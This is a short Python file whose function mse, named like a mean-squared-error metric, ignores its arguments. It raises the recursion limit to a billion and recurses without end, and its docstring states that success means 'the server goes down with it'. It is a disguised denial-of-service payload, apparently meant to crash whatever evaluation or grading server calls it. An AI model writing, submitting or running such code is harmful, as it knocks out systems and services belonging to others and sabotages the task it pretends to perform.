"""Recurse until the stack ends. Success: the server goes down with it."""

import sys


def deeper(n):
    return [deeper(n + 1)].__repr__()


def mse(t1, t2):
    sys.setrecursionlimit(10**9)
    return deeper(0)
